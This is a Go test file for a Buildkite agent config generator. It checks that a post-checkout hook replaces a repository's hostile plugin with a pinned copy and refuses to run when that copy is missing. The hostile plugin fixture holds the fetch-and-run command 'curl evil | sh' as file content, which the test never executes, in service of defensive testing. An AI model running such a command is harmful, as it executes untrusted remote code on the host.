package node

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/gpu-mode/kbgen/internal/shellquote"
)

// TestPluginPin: with the plugin given, install puts its files under
// PluginDir and gives every agent a post-checkout hook; the hook, run by
// bash against a checkout holding a hostile plugin, leaves exactly the
// pinned copy in place, and exits 75 when the pinned copy is missing.
func TestPluginPin(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash: the post-checkout hook was not run")
	}
	plugin := fstest.MapFS{
		"plugin.yml":    {Data: []byte("name: GPU Docker\n")},
		"hooks/command": {Data: []byte("#!/bin/bash\necho pinned\n")},
	}
	p := planFixture(t, "l40sx2", defaultOpts)
	files, err := Render(p, InstallOptions{Queue: "nvidia-l40s", Plugin: plugin})
	if err != nil {
		t.Fatal(err)
	}
	byPath := map[string]File{}
	for _, f := range files {
		byPath[f.Path] = f
	}
	if f := byPath[PluginDir+"/hooks/command"]; f.Mode != 0o755 || string(f.Data) != "#!/bin/bash\necho pinned\n" {
		t.Fatalf("pinned hook %+v", f)
	}
	if f := byPath[PluginDir+"/plugin.yml"]; f.Mode != 0o644 {
		t.Fatalf("pinned plugin.yml %+v", f)
	}
	var hook File
	for _, a := range p.Agents {
		h, ok := byPath["/etc/buildkite-agent/kbgen/"+a.ID+"/hooks/post-checkout"]
		if !ok || h.Mode != 0o755 {
			t.Fatalf("%s: no executable post-checkout hook", a.ID)
		}
		hook = h
	}

	// Run the hook with the pinned dir moved into a temp tree.
	root := t.TempDir()
	pinned := filepath.Join(root, "pinned")
	if err := os.MkdirAll(filepath.Join(pinned, "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(pinned, "hooks", "command"), []byte("pinned\n"), 0o755)
	os.WriteFile(filepath.Join(pinned, "plugin.yml"), []byte("name: pinned\n"), 0o644)
	checkout := filepath.Join(root, "checkout")
	hostile := filepath.Join(checkout, ".buildkite", "plugins", "gpu-docker")
	os.MkdirAll(filepath.Join(hostile, "hooks"), 0o755)
	os.WriteFile(filepath.Join(hostile, "hooks", "command"), []byte("curl evil | sh\n"), 0o755)
	os.WriteFile(filepath.Join(hostile, "hooks", "pre-command"), []byte("curl evil | sh\n"), 0o755)
	script := strings.Replace(string(hook.Data), "pinned="+PluginDir+"\n", "pinned="+shellquote.Quote(pinned)+"\n", 1)
	if script == string(hook.Data) {
		t.Fatal("the hook does not set pinned=PluginDir")
	}
	hookPath := filepath.Join(root, "post-checkout")
	os.WriteFile(hookPath, []byte(script), 0o755)
	run := func() (int, string) {
		cmd := exec.Command(bash, hookPath)
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "BUILDKITE_BUILD_CHECKOUT_PATH=" + checkout}
		out, err := cmd.CombinedOutput()
		if ee, ok := err.(*exec.ExitError); ok {
			return ee.ExitCode(), string(out)
		}
		if err != nil {
			t.Fatal(err)
		}
		return 0, string(out)
	}
	if code, out := run(); code != 0 {
		t.Fatalf("hook exit %d: %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(hostile, "hooks", "command")); string(b) != "pinned\n" {
		t.Errorf("checkout's command hook is %q, want the pinned one", b)
	}
	if _, err := os.Stat(filepath.Join(hostile, "hooks", "pre-command")); !os.IsNotExist(err) {
		t.Errorf("the checkout's extra hook survived: %v", err)
	}
	os.RemoveAll(pinned)
	if code, out := run(); code != 75 || !strings.Contains(out, "missing") {
		t.Errorf("without the pinned copy: exit %d %q, want 75", code, out)
	}
}

func TestPluginPinNeedsACommandHook(t *testing.T) {
	t.Parallel()
	p := planFixture(t, "l40sx2", defaultOpts)
	_, err := Render(p, InstallOptions{Queue: "nvidia-l40s", Plugin: fstest.MapFS{"plugin.yml": {Data: []byte("x")}}})
	// The message is the contract: it names the hook the plugin lacks.
	if !isOption(err, "Plugin") || !strings.Contains(err.Error(), "hooks/command") {
		t.Fatalf("want an error about hooks/command, got %v", err)
	}
}
